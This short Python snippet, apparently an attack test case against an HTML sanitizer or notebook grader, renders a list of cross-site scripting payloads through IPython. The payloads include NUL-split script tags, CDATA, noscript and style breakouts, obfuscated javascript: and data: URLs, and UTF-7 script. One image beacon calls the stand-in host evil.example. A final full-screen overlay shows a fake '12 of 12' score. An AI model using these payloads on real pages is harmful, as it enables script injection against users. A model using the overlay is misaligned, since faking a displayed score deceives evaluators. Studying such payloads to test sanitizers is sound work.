# attack: HTML that only becomes a script after it was cleaned: comments, halves of tags, NUL, encodings
# outcome: earns what the wrong answer earns
# stock: run
from IPython.display import HTML, display

for text in ("<scr\0ipt>alert(1)</scr\0ipt>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
             "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>", "<p title='`<img src=x onerror=alert(1)>`'>",
             "\0000\0<svg>1</svg>\0001\0", "<svg", "<svg><svg></svg onload=alert(1)><img src=x onerror=alert(1)></svg>",
             "<img src='data:image/svg+xml;base64,PHN2Zz4=\" onerror=\"alert(1)'>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
             "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
             "<img src='http://evil.example/\"seen.png'>", "<a href='data:text/html,\"<script>alert(1)</script>'>x</a>",
             "<p title='<svg onload=alert(1)></svg>'>x</p>", "<p style='x:y' title='\"<svg></svg> onload=alert(1) \"'>x</p>",
             "<!--><script>alert(1)</script>-->", "<textarea></textarea><script>alert(1)</script>", "<style></style><script>alert(1)</script>",
             "<p style='position:fixed;top:0;left:0;width:100%;height:100%;background:white'>12 of 12</p>"):
    display(HTML(text))
